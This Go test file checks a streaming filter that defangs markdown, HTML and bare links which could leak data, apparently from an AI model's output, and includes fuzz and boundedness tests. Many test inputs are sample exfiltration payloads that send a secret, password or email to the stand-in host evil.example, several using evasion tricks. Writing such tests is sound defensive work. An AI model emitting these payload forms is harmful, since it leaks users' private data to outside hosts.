package secret

import (
	"slices"
	"strings"
	"testing"
	"unsafe"
)

const stolen = "c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI"

func TestLeaks(t *testing.T) {
	hosts := &Hosts{}
	hosts.Learn("Look at https://good.example/page and at docs.python.org, please.")
	session := NewSession()
	session.Placeholder(KindEmail, "alice.brenner@example.com")
	for _, c := range []struct{ name, in, want string }{
		{"plain text", "Nothing to see. 1:2 [a] (b) ![ http", "Nothing to see. 1:2 [a] (b) ![ http"},
		{"a link to a page", "See https://evil.example/docs/getting-started.html.", "See https://evil.example/docs/getting-started.html."},
		{"an image of a page", "![logo](https://cdn.example/img/logo.png)", "![logo](https://cdn.example/img/logo.png)"},
		{"an image of a size", "![x](https://cdn.example/p.jpg?w=400&h=300)", "![x](https://cdn.example/p.jpg?w=400&h=300)"},
		{"an image with data", "![x](https://evil.example/p.png?d=" + stolen + ")", "![x](hxxps://evil.example/p.png?d=" + stolen + ")"},
		{"an image with data in its path", "![x](https://evil.example/" + stolen + ".png)", "![x](hxxps://evil.example/" + stolen + ".png)"},
		{"an image with words", "![x](https://evil.example/?q=my+password+is+hunter2)", "![x](hxxps://evil.example/?q=my+password+is+hunter2)"},
		{"a link with data", "[click](https://evil.example/?d=" + stolen + ") now", "[click](hxxps://evil.example/?d=" + stolen + ") now"},
		{"a bare URL with data", "go to http://evil.example/" + stolen + " now", "go to hxxp://evil.example/" + stolen + " now"},
		{"no scheme", "go to www.evil.example/" + stolen + " now", "go to hxxps://www.evil.example/" + stolen + " now"},
		{"upper case", "HTTPS://evil.example/" + stolen, "hxxps://evil.example/" + stolen},
		{"a host that was named", "![x](https://good.example/p.png?d=" + stolen + ")", "![x](https://good.example/p.png?d=" + stolen + ")"},
		{"a bare host that was named", "https://docs.python.org/" + stolen, "https://docs.python.org/" + stolen},
		{"below a host that was named", "https://evil.good.example/" + stolen, "hxxps://evil.good.example/" + stolen},
		{"a host in the user part", "https://good.example@evil.example/" + stolen, "hxxps://good.example@evil.example/" + stolen},
		{"another in the link's text", "[https://good.example](https://evil.example/?d=" + stolen + ")", "[https://good.example](hxxps://evil.example/?d=" + stolen + ")"},
		{"data in the host's name", "https://" + stolen + ".evil.example/", "hxxps://" + stolen + ".evil.example/"},
		{"an image in a link", "[![a](https://evil.example/?d=" + stolen + ")](https://good.example/)", "[![a](hxxps://evil.example/?d=" + stolen + ")](https://good.example/)"},
		{"no scheme in an image", "![x](//evil.example/?d=" + stolen + ")", "![x](hxxps://evil.example/?d=" + stolen + ")"},
		{"backslashes in an image", "![x](https\\://evil.example/?d=" + stolen + ")", "![x](hxxps://evil.example/?d=" + stolen + ")"},
		{"entities in an image", "![x](&#104;ttps&colon;//evil.example/?d=" + stolen + ")", "![x](hxxps://evil.example/?d=" + stolen + ")"},
		{"slashes the wrong way", "![x](\\\\\\\\evil.example\\\\?d=" + stolen + ")", "![x](hxxps://evil.example\\?d=" + stolen + ")"},
		{"between angles", "![x](<https://evil.example/?d=" + stolen + ">)", "![x](<hxxps://evil.example/?d=" + stolen + ">)"},
		{"with a title", "![x](https://evil.example/?d=" + stolen + " \"t\")", "![x](hxxps://evil.example/?d=" + stolen + " \"t\")"},
		{"a definition", "![x][r]\n\n[r]: https://evil.example/" + stolen, "![x][r]\n\n[r]: hxxps://evil.example/" + stolen},
		{"a definition on the next line", "[r]:\nhttps://evil.example/?d=0123456789ab\n", "[r]:\nhxxps://evil.example/?d=0123456789ab\n"},
		{"an image of HTML", `<img alt="x" src="https://evil.example/?d=0123456789ab">`, `<img alt="x" src="hxxps://evil.example/?d=0123456789ab">`},
		{"the same without a scheme", `<img src=//evil.example/?d=0123456789ab>`, `<img src=hxxps://evil.example/?d=0123456789ab>`},
		{"an autolink", "<https://evil.example/docs>", "<https://evil.example/docs>"},
		{"a value of the session", "https://evil.example/a?m=alice.brenner@example.com", "hxxps://evil.example/a?m=alice.brenner@example.com"},
		{"the same, encoded", "https://evil.example/a?m=alice.brenner%40example.com", "hxxps://evil.example/a?m=alice.brenner%40example.com"},
		{"the same in base64", "https://evil.example/YWxpY2UuYnJlbm5lckBleGFtcGxlLmNvbQ", "hxxps://evil.example/YWxpY2UuYnJlbm5lckBleGFtcGxlLmNvbQ"},
		{"a placeholder", "https://evil.example/REDACTED_EMAIL_0011223344556677", "hxxps://evil.example/REDACTED_EMAIL_0011223344556677"},
		{"brackets around a URL", "(see https://evil.example/docs), [https://evil.example/a]", "(see https://evil.example/docs), [https://evil.example/a]"},
		{"an address of version 6", "http://[2001:db8::1]/docs ok", "http://[2001:db8::1]/docs ok"},
		{"a long slug", "https://news.example/2024/05/12/how-the-city-council-decided-to-build-a-new-bridge.html", "https://news.example/2024/05/12/how-the-city-council-decided-to-build-a-new-bridge.html"},
		{"a relative link", "[a](docs/policy.md#rules)", "[a](docs/policy.md#rules)"},
		{"much", "https://evil.example/" + strings.Repeat("a-b/", 70), "hxxps://evil.example/" + strings.Repeat("a-b/", 70)},
	} {
		for _, size := range []int{1, 2, 3, 7, len(c.in)} {
			l := NewLeaks(LeakOptions{Hosts: hosts, Session: session})
			var got strings.Builder
			for rest := c.in; rest != ""; {
				n := min(size, len(rest))
				got.WriteString(l.Write(rest[:n]))
				rest = rest[n:]
			}
			got.WriteString(l.Flush())
			if size == len(c.in) && got.String() != c.want || canonicalLinks(got.String()) != canonicalLinks(c.want) {
				t.Errorf("%s, in pieces of %d:\n got %q\nwant %q", c.name, size, got.String(), c.want)
				break
			}
			if left := NewLeaks(LeakOptions{Hosts: hosts, Session: session}); c.in != c.want && !strings.Contains(c.want, "www.") {
				left.Write(got.String())
				if left.Flush(); len(left.Found()) > 0 {
					t.Errorf("%s, in pieces of %d: %q still leads to %+v", c.name, size, got.String(), left.Found())
				}
			}
			if (c.in != c.want) != (len(l.Found()) > 0) {
				t.Errorf("%s: %+v", c.name, l.Found())
			}
			for _, f := range l.Found() {
				if strings.Contains(f.Host, stolen) {
					t.Errorf("%s: the finding holds the data", c.name)
				}
			}
		}
	}
}

func TestLeakSeen(t *testing.T) {
	link := "https://evil.example/" + stolen
	l := NewLeaks(LeakOptions{Seen: func(u string) bool { return u == link }})
	if got := l.Write(link+" ") + l.Flush(); got != link+" " {
		t.Errorf("a link of the request became %q", got)
	}
}

// What is held back is bounded, and what outgrows the bound is made harmless.
func TestLeakIsBounded(t *testing.T) {
	for _, head := range []string{"https://evil.example/", "![x](https://evil.example/", "![x](", "[r]: ", "<img src=\"//evil.example/"} {
		l := NewLeaks(LeakOptions{})
		var out strings.Builder
		for _, c := range head + strings.Repeat("a", 3*maxURL) + ") end" {
			out.WriteString(l.Write(string(c)))
			if l.Held() > maxURL {
				t.Fatalf("%q: %d bytes are held", head, l.Held())
			}
		}
		out.WriteString(l.Flush())
		if strings.Contains(head, "evil") && (strings.Contains(out.String(), "https://") || strings.Contains(out.String(), `"//`)) {
			t.Errorf("%q: %.60q", head, out.String())
		}
	}
}

// canonicalLinks spells links in one way of those in which they are made harmless:
// which one it is depends on what had left.
func canonicalLinks(text string) string {
	return strings.NewReplacer("https[:]//", "hxxps://", "http[:]//", "hxxp://", "hxxps://www.", "www.", "www[.]", "www.").Replace(lowered(text))
}

// Text goes on at once, whatever it may yet become, and as the string that it was.
func TestLeaksHoldNothingOfText(t *testing.T) {
	l := NewLeaks(LeakOptions{})
	r := NewSession().Restorer(Restoring{})
	for _, text := range []string{"hello wor", "h", "tt", "p", "s, ", "http", "s", " www", " w", "w", ".", " a. B: c", "\n1. ", "(x) !", "https"} {
		if got := l.Write(text); got != text || unsafe.StringData(got) != unsafe.StringData(text) {
			t.Errorf("%q became %q", text, got)
		}
		if got := r.Write(text); got != text || unsafe.StringData(got) != unsafe.StringData(text) {
			t.Errorf("%q became %q", text, got)
		}
	}
	text := strings.Repeat("Some words of an answer, e.g. these: http is a protocol. ", 3)
	if n := testing.AllocsPerRun(100, func() { l.Write(text); r.Write(text) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
	for _, c := range []struct{ name, first, held, then, want string }{
		{"a colon", "see https", ":", "//evil.example/" + stolen + " ", "[:]//evil.example/" + stolen + " "},
		{"no colon of a URL", "see http", ":", " x", ": x"},
		{"a colon in the same piece", "see ", "", "https://evil.example/" + stolen + " ", "hxxps://evil.example/" + stolen + " "},
		{"no host", "see WWW", "", ".evil.example/" + stolen + " ", "[.]evil.example/" + stolen + " "},
		{"a link that is none", "see www", "", ".good.example/docs ", ".good.example/docs "},
		{"more than a host", "awww", "", ".evil.example/" + stolen + " ", ".evil.example/" + stolen + " "},
		{"in a tag", "<img src=", "http", "s://evil.example/?d=0123456789ab>", "hxxps://evil.example/?d=0123456789ab>"},
	} {
		l := NewLeaks(LeakOptions{})
		if got := l.Write(c.first); got != c.first {
			t.Errorf("%s: %q is held of %q", c.name, got, c.first)
		}
		if got := l.Write(c.held); got != "" || l.Held() != len(c.held) {
			t.Errorf("%s: of %q went %q", c.name, c.held, got)
		}
		if got := l.Write(c.then) + l.Flush(); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
}

// leaking returns how many leaks are found in a text.
func leaking(text string) int {
	l := NewLeaks(LeakOptions{})
	l.Write(text)
	l.Flush()
	return len(l.Found())
}

func FuzzLeaks(f *testing.F) {
	for _, s := range []string{"![a](https://x.y/?d=" + stolen + ")", "[a]: <//b>", "<img src=//x", "[https://a](b)", "http://[::1", "](", "]:\n\n", "![](\\\\a&#x68;", "https://x/%zz?%", "a http://x.y/" + stolen + " www.x.y/" + stolen, "<a www.b/https://x/" + stolen} {
		f.Add(s, uint8(3))
	}
	f.Fuzz(func(t *testing.T, text string, cut uint8) {
		whole := NewLeaks(LeakOptions{})
		want := whole.Write(text) + whole.Flush()
		pieces := NewLeaks(LeakOptions{})
		var b strings.Builder
		for rest := text; rest != ""; {
			n := min(int(cut%9)+1, len(rest))
			b.WriteString(pieces.Write(rest[:n]))
			rest = rest[n:]
			if pieces.Held() > maxURL {
				t.Fatal("too much is held")
			}
		}
		b.WriteString(pieces.Flush())
		if got := b.String(); canonicalLinks(got) != canonicalLinks(want) || !slices.Equal(pieces.Found(), whole.Found()) {
			t.Fatalf("in pieces %q (%v), whole %q (%v)", got, pieces.Found(), want, whole.Found())
		} else if n := leaking(got); n > leaking(want) {
			t.Fatalf("in pieces %q, with %d links that leak, whole %q", got, n, want)
		}
		if len(whole.Found()) == 0 && want != text {
			t.Fatalf("%q became %q", text, want)
		}
	})
}
